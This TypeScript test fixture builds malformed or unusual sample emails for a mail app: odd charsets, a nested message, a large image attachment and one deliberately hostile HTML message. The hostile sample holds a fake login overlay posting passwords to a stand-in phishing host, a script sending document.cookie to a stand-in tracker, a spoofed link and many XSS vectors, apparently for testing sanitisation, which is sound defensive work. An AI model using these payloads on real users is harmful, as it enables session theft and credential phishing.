import { wire } from './machine-mail.ts';
import { photo } from './sample-files.ts';
import { saveable, toMaya, toSupport, type RawSample } from './sample.ts';

const nested = wire(
  {
    From: 'Harbour desk <desk@portoffice.example>',
    To: 'Mei Tan <mei.tan@fjordhaven.example>',
    Subject: 'Charter statement October',
    Date: 'Mon, 02 Nov 2026 08:00:00 +0000',
    'Message-ID': '<statement-october@portoffice.example>',
    'Content-Type': 'text/plain; charset=utf-8'
  },
  'Statement for October: 14 calls, 212 hours.'
);

const HOSTILE = `<html><head><style>
.cover{position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:99999}
body{background:url(https://tracker.hostile.example/b.png)}
</style><meta http-equiv="refresh" content="0;url=https://phish.hostile.example/"><base href="https://phish.hostile.example/"></head>
<body onload="alert('load')">
<div class="cover" style="position:fixed;inset:0;z-index:2147483647">Your session has expired.
<form action="https://phish.hostile.example/login" method="post"><input name="password" type="password" autofocus><button formaction="javascript:alert(1)">Sign in</button></form></div>
<script>document.body.innerHTML='owned';fetch('https://tracker.hostile.example/?c='+document.cookie)</script>
<img src=x onerror="alert('img')"><svg onload="alert('svg')"><a xlink:href="javascript:alert(2)"><text>click</text></a></svg>
<iframe srcdoc="<script>parent.alert(3)</script>"></iframe><object data="javascript:alert(4)"></object><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(5)&gt;"></table></mtext></math>
<a href="javascript:alert(6)">Open the order</a> <a href="https://www.harbourlight.example@phish.hostile.example/">https://www.harbourlight.example/orders</a>
<p>Dear Maya, please find our order for 20 card readers in the link above. Eleanor</p>
</body></html>`;

/** Mail that is hard to read: broken, hostile, big, or strangely written. */
export const oddMail: readonly RawSample[] = [
  {
    kind: 'raw',
    key: 'bare-1',
    in: toSupport,
    daysAgo: 10,
    at: '21:03',
    expect: saveable,
    write: () =>
      wire(
        { To: 'support@acme.example', Subject: 'printer', 'Reply-To': 'Lars Hagen <lars.hagen@fjordhaven.example>' },
        'gate pass printer prints again, thank you. lars'
      )
  },
  {
    kind: 'raw',
    key: 'charset-1',
    in: toSupport,
    daysAgo: 9,
    at: '08:44',
    expect: saveable,
    write: (date) =>
      Buffer.from(
        wire(
          {
            From: 'Bram Kuiper <bram.kuiper@umberfield.example>',
            To: 'support@acme.example',
            Subject: 'Oven 3, temperatuur',
            Date: date,
            'Message-ID': '<charset-1@umberfield.example>',
            'MIME-Version': '1.0',
            'Content-Type': 'text/plain; charset=x-umberfield-8',
            'Content-Transfer-Encoding': '8bit'
          },
          'Hallo,\n\noven 3 blijft op 980 \u00b0C staan, ook na een reset. Foutcode \u00a7 44.\n\nGroeten,\nBram Kuiper\nKiln Engineer, Umberfield Ceramics\n+44 20 7946 0160'
        ),
        'latin1'
      )
  },
  {
    kind: 'raw',
    key: 'hostile-1',
    in: toMaya,
    daysAgo: 2,
    at: '03:00',
    expect: saveable,
    write: (date) =>
      wire(
        {
          From: 'Eleanor Voss <voss@harbourlight.example>',
          'Reply-To': 'orders@phish.hostile.example',
          To: 'Maya Stone <maya.stone@acme.example>',
          Subject: 'Order: 20 card readers',
          Date: date,
          'Message-ID': '<hostile-1@hostile.example>',
          'MIME-Version': '1.0',
          'Content-Type': 'text/html; charset=utf-8'
        },
        HOSTILE
      )
  },
  {
    kind: 'raw',
    key: 'nested-1',
    in: toSupport,
    daysAgo: 7,
    at: '13:33',
    expect: saveable,
    write: (date) =>
      wire(
        {
          From: 'Mei Tan <mei.tan@fjordhaven.example>',
          To: 'support@acme.example',
          Subject: 'Charter statement for October, as I got it',
          Date: date,
          'Message-ID': '<nested-1@fjordhaven.example>',
          'MIME-Version': '1.0',
          'Content-Type': 'multipart/mixed; boundary="nested-1"'
        },
        `--nested-1\nContent-Type: text/plain; charset=utf-8\n\nHello,\n\nthe statement counts 14 calls, your report says 13. See the attached message.\n\nMei Tan\nCharter Broker\n+44 20 7946 0116\n\n--nested-1\nContent-Type: message/rfc822\nContent-Disposition: attachment; filename="Charter statement October.eml"\n\n${nested.replaceAll('\r\n', '\n')}\n--nested-1--`
      )
  },
  {
    kind: 'raw',
    key: 'latin-1',
    in: toMaya,
    daysAgo: 11,
    at: '09:59',
    expect: saveable,
    write: (date) =>
      Buffer.from(
        wire(
          {
            From: 'Femke Jansen <femke.jansen@umberfield.example>',
            To: 'Maya Stone <maya.stone@acme.example>',
            Subject: 'Offerte caf\u00e9-serviezen',
            Date: date,
            'Message-ID': '<latin-1@umberfield.example>',
            'MIME-Version': '1.0',
            'Content-Type': 'text/plain; charset=iso-8859-1',
            'Content-Transfer-Encoding': '8bit'
          },
          "Beste Maya,\n\nkunnen jullie de pri\u00eftkaart voor de nieuwe oven ook in euro's per uur geven? Drie\u00ebntwintig ovens, dus graag v\u00f3\u00f3r vrijdag.\n\nFemke Jansen\nStudio Manager | Umberfield Ceramics"
        ),
        'latin1'
      )
  },
  {
    kind: 'raw',
    key: 'utf8-1',
    in: toMaya,
    daysAgo: 1,
    at: '08:17',
    expect: saveable,
    write: (date) =>
      wire(
        {
          From: 'Jörg Müller <joerg.mueller@müllerhof.example>',
          To: 'Maya Stone <maya.stone@acme.example>',
          Subject: 'Weihnachtskörbe für Ihre Kunden',
          Date: date,
          'Message-ID': '<utf8-1@xn--mllerhof-65a.example>',
          'MIME-Version': '1.0',
          'Content-Type': 'text/plain; charset=utf-8',
          'Content-Transfer-Encoding': '8bit'
        },
        'Liebe Frau Stone,\n\nwie jedes Jahr: 40 Körbe, davon 12 ohne Schwein? Die Preise sind geblieben.\n\nIhr Jörg Müller\nMüllerhof Feinkost, München'
      )
  },
  {
    kind: 'raw',
    key: 'large-1',
    in: toSupport,
    daysAgo: 5,
    at: '16:16',
    expect: saveable,
    write: (date) => {
      const image =
        photo('brake-disc.png', 1180, 900)
          .content.toString('base64')
          .match(/.{1,76}/g) ?? [];
      return wire(
        {
          From: 'Giulia Conti <giulia.conti@velloria.example>',
          To: 'support@acme.example',
          Cc: 'Matteo Ricci <matteo.ricci@velloria.example>',
          Subject: 'Case 00001039: cracked disc, photo in full size',
          Date: date,
          'Message-ID': '<large-1@velloria.example>',
          'MIME-Version': '1.0',
          'Content-Type': 'multipart/mixed; boundary="large-1"'
        },
        `--large-1\nContent-Type: text/plain; charset=utf-8\n\nHello Nina,\n\nyou asked for the full size. The crack starts at the second bolt.\n\nGiulia Conti\nTest Engineer, Velloria Motors\n+353 1 555 0163\n\n--large-1\nContent-Type: image/png; name="brake-disc.png"\nContent-Transfer-Encoding: base64\nContent-Disposition: attachment; filename="brake-disc.png"\n\n${image.join('\n')}\n--large-1--`
      );
    }
  }
];
